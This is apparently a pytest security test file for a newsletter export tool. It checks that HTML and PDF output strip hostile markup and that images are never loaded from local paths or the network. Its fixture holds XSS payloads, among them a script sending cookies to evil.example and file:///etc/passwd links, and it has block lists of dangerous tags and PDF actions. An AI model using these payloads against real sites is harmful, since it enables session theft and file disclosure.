"""A hostile draft: nothing it smuggles in reaches an output, nothing outside is read."""

from __future__ import annotations

import contextlib
import http.server
import os
import re
import threading
import zlib
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import ClassVar

import pytest
from pypdf import PdfReader

from tests.conftest import RunNl

HOSTILE = '''\
title = "Hostile <script>alert('title')</script>"
date = 2026-06-01
number = 1
summary = "Looks harmless\\" onmouseover=\\"alert(1)"
authors = ["Mallory <img src=x onerror=alert(2)>"]

intro = """
<script>document.location='https://evil.example/?c='+document.cookie</script>

<style>@import url("https://evil.example/track.css"); body { display: none }</style>

<img src="x" onerror="alert(3)"> <a href="#" onclick="alert(4)">click</a>

Read [the minutes](javascript:alert(5)) or [this page](JAVASCRIPT:alert(6)) or
[a data page](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) or
[the host name](file:///etc/hostname) or [a script](vbscript:msgbox(8)).

<iframe src="https://evil.example/frame"></iframe>
<link rel="attachment" href="file:///etc/hostname">
<object data="file:///etc/passwd"></object>
"""

[[sections]]
heading = "Section <b onmouseover=alert(9)>bold</b>"
kind = "event"
date = 2026-06-10
location = "<script>alert(10)</script>"
body = """
An ordinary paragraph with a [real link](https://example.org/ok).
"""
'''


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.items: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.items.append((tag, dict(attrs)))


def _pdf_bytes_expanded(path: Path) -> bytes:
    """The PDF's bytes with every Flate stream inflated, to search them."""
    data = path.read_bytes()
    out = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        with contextlib.suppress(zlib.error):
            out.append(zlib.decompress(match.group(1)))
    return b"\n".join(out)


def test_hostile_markup_never_reaches_any_output(run_nl: RunNl, ws: Path) -> None:
    (ws / "issues" / "hostile.toml").write_text(HOSTILE, encoding="utf-8")
    result = run_nl("export", "--force", "issues/hostile.toml", cwd=ws)
    assert result.exit_code == 0, result.output

    html = (ws / "out" / "hostile.html").read_text(encoding="utf-8")
    elements = Elements(html)
    tags = [tag for tag, _ in elements.items]
    for banned in ("script", "iframe", "object", "embed", "form", "input", "base"):
        assert banned not in tags, banned
    assert tags.count("style") == 1  # the theme's own, in <head>
    assert [a for _, a in elements.items if a.get("rel") and "attachment" in str(a["rel"])] == []
    for tag, attrs in elements.items:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src"):
                assert not re.match(r"\s*(javascript|vbscript|data|file):", value or "", re.I), (
                    tag,
                    value,
                )
    # the raw HTML is visible as text, escaped, so the author sees what happened
    assert "&lt;script&gt;" in html
    assert "evil.example/track.css" not in re.sub(
        r"&lt;style&gt;.*?&lt;/style&gt;", "", html, flags=re.S
    )

    pdf = ws / "out" / "hostile.pdf"
    raw = _pdf_bytes_expanded(pdf)
    for marker in (
        b"/JavaScript",
        b"/JS ",
        b"/Launch",
        b"/EmbeddedFile",
        b"/SubmitForm",
        b"/GoToR",
    ):
        assert marker not in raw, marker
    uris = re.findall(rb"/URI\s*\((.*?)\)", raw)
    assert uris and all(u.startswith((b"https://", b"mailto:")) for u in uris), uris
    if Path("/etc/hostname").is_file():
        secret = Path("/etc/hostname").read_text().strip()
        text = "\n".join(page.extract_text() for page in PdfReader(pdf).pages)
        assert secret not in text or secret in HOSTILE


def test_an_image_from_outside_the_folder_stops_the_export(run_nl: RunNl, ws: Path) -> None:
    (ws / "secret.png").write_bytes((ws / "issues" / "pictures" / "bridge.png").read_bytes())
    os.symlink(ws / "secret.png", ws / "issues" / "pictures" / "innocent.png")
    draft = ws / "issues" / "images.toml"
    draft.write_text(
        'title = "Images"\n'
        'intro = """\n'
        "![a](file:///etc/hostname)\n\n"
        "![b](/etc/hostname)\n\n"
        "![c](../secret.png)\n\n"
        "![d](pictures/innocent.png)\n\n"
        "![e](pictures/bridge.png)\n"
        '"""\n',
        encoding="utf-8",
    )
    result = run_nl("export", "--force", "issues/images.toml", cwd=ws)
    assert result.exit_code == 3, result.output
    for line, src in (
        (3, "file:///etc/hostname"),
        (5, "/etc/hostname"),
        (7, "../secret.png"),
        (9, "pictures/innocent.png"),
    ):
        assert f"issues/images.toml:{line}:1: blocked image {src}" in result.stderr
    assert "pictures/bridge.png" not in result.stderr
    assert not (ws / "out").exists()


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(b"")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def loopback() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on 127.0.0.1 that records every request it gets."""
    _Recorder.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.requests
    finally:
        server.shutdown()
        server.server_close()


def test_the_recorder_really_records(loopback: tuple[str, list[str]]) -> None:
    from urllib.request import urlopen

    base, requests = loopback
    urlopen(f"{base}/probe.png", timeout=5).read()
    assert requests == ["/probe.png"]


def test_network_images_are_never_fetched(
    run_nl: RunNl, ws: Path, loopback: tuple[str, list[str]]
) -> None:
    base, requests = loopback
    draft = ws / "issues" / "remote.toml"
    draft.write_text(
        f'title = "Remote"\nintro = """\n![tracker]({base}/pixel.png)\n"""\n', encoding="utf-8"
    )
    result = run_nl("export", "--force", "issues/remote.toml", cwd=ws)
    assert result.exit_code == 3, result.output
    assert f"issues/remote.toml:3:1: blocked image {base}/pixel.png" in result.stderr
    assert "never use the network" in result.stderr
    assert requests == []


def test_theme_resources_go_through_the_same_fetcher(
    run_nl: RunNl, ws: Path, loopback: tuple[str, list[str]]
) -> None:
    base, requests = loopback
    own = ws / "templates" / "default"
    own.mkdir(parents=True)
    shipped = (Path(__file__).parent.parent / "templates" / "default" / "pdf.css").read_text()
    (own / "pdf.css").write_text(
        f'@import url("{base}/evil.css");\nbody {{ background: url("{base}/bg.png"); }}\n'
        + shipped,
        encoding="utf-8",
    )
    result = run_nl("export", "--pdf", "2026-03-spring.toml", cwd=ws / "issues")
    assert result.exit_code == 3, result.output
    assert f"blocked {base}/evil.css" in result.stderr
    assert requests == []


def test_a_theme_cannot_attach_files(run_nl: RunNl, ws: Path) -> None:
    own = ws / "templates" / "default"
    own.mkdir(parents=True)
    shipped = (Path(__file__).parent.parent / "templates" / "default" / "pdf.html").read_text()
    (own / "pdf.html").write_text(
        shipped.replace("</head>", '<link rel="attachment" href="file:///etc/hostname">\n</head>'),
        encoding="utf-8",
    )
    result = run_nl("export", "--pdf", "issues/2026-03-spring.toml", cwd=ws)
    assert result.exit_code == 3, result.output
    assert "blocked attachment file:///etc/hostname" in result.stderr
    assert not (ws / "out").exists()
